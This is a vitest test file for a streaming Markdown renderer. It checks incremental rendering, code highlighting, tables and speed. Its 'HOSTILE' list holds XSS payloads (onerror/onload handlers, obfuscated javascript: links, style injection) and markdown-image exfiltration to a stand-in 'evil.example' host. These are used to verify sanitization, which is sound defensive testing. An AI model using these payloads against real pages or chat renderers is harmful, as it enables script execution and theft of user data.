import { expect, test } from "vitest";
import { MarkdownView } from "../src/panel/markdown.js";

const LABELS = { copy: "Copy", copied: "Copied" };

function render(text: string, isOpen = false): HTMLElement {
  const view = new MarkdownView(LABELS);
  view.update(text, isOpen);
  return view.element;
}

function html(text: string, isOpen = false): string {
  return render(text, isOpen).innerHTML;
}

const FENCE = "```";

const DOCUMENTS = [
  "Plain text, 5 < 10 & done.",
  `SHA:\n\n${FENCE}text\nabc123\n${FENCE}`,
  "# One\n\ntext\n## Two ##\nmore",
  "- a\n- b\n  - c\n\n  para\n\n- d\n\n1. x\n2. y\n\n   z",
  "1. a\n\n2. b\n\n- c\n\n-d\n\n2020. e",
  "a\n-b\n- c\n---\n\n* * *\n**x",
  `- item\n  ${FENCE}js\n  let a = "- b";\n\n  a += 1\n  ${FENCE}\n- next`,
  "> quoted **bold\n> more**\n\nafter",
  "| a | b |\n|:--|--:|\n| 1 | `x|y` |\n| 2 |\n\nend | here",
  "**bold never closed and *em",
  "*em **both** x* and ***all*** and __b__ snake_case_word ~~gone~~",
  "[link](https://a.example/x_(y)) ![img](https://b.example/i.png) <https://c.example> https://d.example/e.",
  "`` code ` tick `` and `open",
  "line one\nline two<br>three\\*four\\",
  "<sup>x</sup> <img src=x onerror=alert(1)>",
  `~~~~\n${FENCE}\n~~~~\ntail`,
  "mixed\r\nline ends\r\rof all kinds",
  "[a](https://x\" onclick=\"alert(1)) [b [c] d](https://e.example) [x][y]",
];

test.each(DOCUMENTS)("growing gives at each prefix what one go gives: %j", (text) => {
  const growing = new MarkdownView(LABELS);
  for (let end = 1; end <= text.length; end += 1) {
    // A CR at the end of a prefix is a line end until its LF comes.
    const prefix = text.slice(0, end);
    growing.update(prefix, true);
    expect(growing.element.innerHTML, JSON.stringify(prefix)).toBe(html(prefix, true));
  }
  growing.update(text, false);
  expect(growing.element.innerHTML).toBe(html(text));
});

const SENTENCE = "Some **bold** words, a `span` and [a link](https://a.example) again. ";
const LONG_DOCUMENTS = {
  paragraph: SENTENCE.repeat(90),
  lines: `${SENTENCE}\n`.repeat(90),
  "one emphasis": `**${"word ".repeat(2000)}**`,
  code: `${FENCE}js\n${'const a = "b"; // c\n'.repeat(300)}${FENCE}\n\nend`,
  list: `- item with *emphasis*\n  - nested\n`.repeat(60),
  quote: `> ${SENTENCE}\n`.repeat(60),
  table: `| a | b |\n|---|--:|\n${"| one **two** | `3` |\n".repeat(60)}\nend`,
};

test.each(Object.entries(LONG_DOCUMENTS))("a long %s grows as it is in one go", (_, text) => {
  const growing = new MarkdownView(LABELS);
  for (let end = 1; end <= text.length; end += 97) {
    const prefix = text.slice(0, end);
    growing.update(prefix, true);
    expect(growing.element.innerHTML).toBe(html(prefix, true));
  }
  growing.update(text, false);
  expect(growing.element.innerHTML).toBe(html(text));
});

test("a long paragraph keeps the nodes of its finished pieces", () => {
  const view = new MarkdownView(LABELS);
  view.update(SENTENCE.repeat(60), true);
  const [first] = view.element.querySelectorAll(".run");
  view.update(SENTENCE.repeat(90), true);
  expect(view.element.querySelector(".run")).toBe(first);
  const text = view.element.textContent;
  expect(text).toBe(render(SENTENCE).textContent!.concat(" ").repeat(90).trim());
});

test("long code keeps each of its letters", () => {
  const code = 'let a = "b"; /* c */ # d\n'.repeat(400).trimEnd();
  const shown = render(`${FENCE}js\n${code}\n${FENCE}`).querySelector("code");
  expect(shown?.textContent).toBe(code);
  expect(shown?.querySelectorAll(".run").length).toBeGreaterThan(2);
});

test("code shows its comments, texts, numbers and words", () => {
  const code = render(`${FENCE}py\ndef f(): # why\n  return "x" + 12\n${FENCE}`, true);
  const marked = [...code.querySelectorAll("code span")];
  expect(marked.map((node) => `${node.className} ${node.textContent}`)).toEqual([
    "k def",
    "c # why",
    "k return",
    's "x"',
    "n 12",
  ]);
});

test.each([
  // "order" is a word of SQL alone, and behind a dot nothing is.
  ["py", "for order in shop.import:", ["k for", "k in"]],
  ["sql", "SELECT id -- why\nORDER BY", ["k SELECT", "c -- why", "k ORDER", "k BY"]],
  ["js", "i-- > 0 // why", ["n 0", "c // why"]],
  ["py", "n // 2  # why", ["n 2", "c # why"]],
  ["sh", "curl http://shop.example -- x # why", ["c # why"]],
  ["js", "this.#x = 'a'", ["k this", "s 'a'"]],
  ["py", "a = None", ["k None"]],
])("in %s what is marked is of that language: %s", (language, code, marks) => {
  const marked = [...render(`${FENCE}${language}\n${code}\n${FENCE}`).querySelectorAll("code span")];
  expect(marked.map((node) => `${node.className} ${node.textContent}`)).toEqual(marks);
});

test("code is exactly what stands between the fences", () => {
  const element = render(`SHA:\n\n${FENCE}text\nabc123\n${FENCE}`);
  expect(element.querySelector("pre code")?.textContent).toBe("abc123");
});

test("half a closing fence is not shown as code", () => {
  const code = render(`${FENCE}\nabc\n\`\``, true).querySelector("code");
  expect(code?.textContent).toBe("abc");
});

test.each([
  ["a **b** *c* _d_ __e__", "<p>a <strong>b</strong> <em>c</em> <em>d</em> <strong>e</strong></p>"],
  ["***x***", "<p><strong><em>x</em></strong></p>"],
  ["snake_case_word 2*3*4", "<p>snake_case_word 2<em>3</em>4</p>"],
  ["5 * 3 * 2", "<p>5 * 3 * 2</p>"],
  ["**a", "<p>**a</p>"],
  ["~~a~~ ~b~", "<p><del>a</del> ~b~</p>"],
  ["`a*b*`", "<p><code>a*b*</code></p>"],
  ["\\*a\\*", "<p>*a*</p>"],
  ["a\nb", "<p>a<br>b</p>"],
  ["#tag", "<p>#tag</p>"],
  ["- a\n- b", "<ul><li>a</li><li>b</li></ul>"],
  ["3. a\n4. b", '<ol start="3"><li>a</li><li>b</li></ol>'],
  ["1. a\n   - b\n2. c", "<ol><li>a<ul><li>b</li></ul></li><li>c</li></ol>"],
  ["> a\n> > b", "<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote>"],
  ["a\n\n---\n\nb", "<p>a</p><hr><p>b</p>"],
  ["5 < 10", "<p>5 &lt; 10</p>"],
])("%j", (text, expected) => {
  expect(html(text)).toBe(expected);
});

test.each([
  ["**bo", "<p><strong>bo</strong></p>"],
  ["**bold*", "<p><strong>bold</strong></p>"],
  ["a **", "<p>a </p>"],
  ["`co", "<p><code>co</code></p>"],
  ["[la](https://x", "<p>la</p>"],
])("half open: %j", (text, expected) => {
  expect(html(text, true)).toBe(expected);
});

test("a table takes its alignment from classes, not styles", () => {
  const element = render("a:\n| x | y |\n|---|--:|\n| 1 | 2 |");
  expect(element.querySelectorAll("td").length).toBe(2);
  expect(element.querySelector("td:last-child")?.className).toBe("align-right");
  expect(element.querySelector("[style]")).toBeNull();
});

const HOSTILE = [
  "<img src=x onerror=alert(1)>",
  '<iframe srcdoc="<script>alert(1)</script>">',
  "[a](javascript:alert(1))",
  "[a](JaVaScRiPt:alert(1))",
  "[a](<java\tscript:alert(1)>)",
  "[a](java\nscript:alert(1))",
  "[a](\u0001javascript:alert(1))",
  "[a](<\u0001javascript:alert(1)>)",
  "[a](&#106;avascript:alert(1))",
  "[a](data:text/html,x)",
  "[a](vbscript:x)",
  "[a](blob:https://x/y)",
  "<javascript:alert(1)>",
  '[a](https://x" onclick="alert(1))',
  "<svg/onload=alert(1)>",
  '```js" onmouseover="alert(1)\nx\n```',
  "<style>*{display:none}</style>",
  "![x](https://evil.example/p.png?q=SECRET)",
  '<img src="https://evil.example/p.png">',
  "![x][r]\n\n[r]: https://evil.example/p.png",
  "| <script>x</script> | [a](javascript:x) |\n|---|---|",
];

const ALLOWED = new Set(
  ("DIV P H3 H4 H5 H6 UL OL LI PRE CODE SPAN A EM STRONG DEL BR HR BLOCKQUOTE " +
    "TABLE THEAD TBODY TR TH TD").split(" "),
);

test.each(HOSTILE)("nothing active at any prefix of %j", (text) => {
  for (let end = 1; end <= text.length; end += 1) {
    for (const isOpen of [true, false]) {
      for (const node of render(text.slice(0, end), isOpen).querySelectorAll("*")) {
        expect(ALLOWED).toContain(node.tagName);
        const names = node.getAttributeNames();
        expect(names.filter((name) => name.startsWith("on") || name === "src")).toEqual([]);
        if (node instanceof HTMLAnchorElement) {
          expect(["http:", "https:", "mailto:", "tel:"]).toContain(node.protocol);
          expect(node.rel).toBe("noopener noreferrer");
        }
      }
    }
  }
});

test.each(["[", "*", "_", "`", "**a ", "[a](", "> ", "- ", "![", "<", "~~", "|", "1. "])(
  "hostile repetition of %j stays fast",
  (unit) => {
    const started = performance.now();
    render(unit.repeat(20_000), true);
    expect(performance.now() - started).toBeLessThan(1500);
  },
);

test("blocks that are finished keep their nodes", () => {
  const view = new MarkdownView(LABELS);
  view.update("First.\n\nSecond\n\nTh", true);
  const [first, second] = view.element.children;
  view.update("First.\n\nSecond\n\nThird and more", true);
  expect(view.element.children[0]).toBe(first);
  expect(view.element.children[1]).toBe(second);
});
